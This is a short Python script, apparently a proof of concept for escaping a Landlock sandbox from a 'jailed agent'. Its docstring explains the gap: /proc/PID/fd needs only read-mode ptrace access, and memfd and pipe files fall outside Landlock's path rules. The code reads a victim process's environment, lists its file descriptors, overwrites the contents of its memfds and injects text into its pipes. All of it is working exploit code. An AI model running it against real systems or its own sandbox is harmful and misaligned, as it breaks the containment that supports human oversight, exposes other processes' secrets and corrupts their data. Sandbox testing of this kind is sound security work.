"""Agent-side: reach another process's memfd / pipes through /proc/PID/fd (argv: victim pid).
Landlock's ptrace check only stops PTRACE_MODE_ATTACH (/proc/PID/mem); /proc/PID/fd is READ mode,
and memfd/pipe files live on internal (SB_NOUSER) mounts that Landlock's path rules never see."""
import json, mmap, os, sys
v = int(sys.argv[1])
out = {}
try:
    out["environ_head"] = open(f"/proc/{v}/environ", "rb").read(60).decode(errors="replace")
except OSError as e:
    out["environ_head"] = repr(e)
try:
    fds = {n: os.readlink(f"/proc/{v}/fd/{n}") for n in os.listdir(f"/proc/{v}/fd")}
except OSError as e:
    fds = {}
    out["fd_list"] = repr(e)
out["fds"] = fds
for n, target in fds.items():
    if target.startswith("/memfd:"):
        try:
            fd = os.open(f"/proc/{v}/fd/{n}", os.O_RDWR)
            m = mmap.mmap(fd, 4096)
            out[f"memfd_{n}_read"] = m[:32].rstrip(b"\0").decode(errors="replace")
            m[:32] = b"OVERWRITTEN BY THE JAILED AGENT!"
            out[f"memfd_{n}_write"] = "ok"
        except OSError as e:
            out[f"memfd_{n}"] = repr(e)
    if target.startswith("pipe:"):
        try:
            fd = os.open(f"/proc/{v}/fd/{n}", os.O_WRONLY | os.O_NONBLOCK)
            os.write(fd, b"injected by the jailed agent\n")
            out[f"pipe_{n}_write"] = "ok"
        except OSError as e:
            out[f"pipe_{n}_write"] = repr(e)
print(json.dumps(out, indent=1))
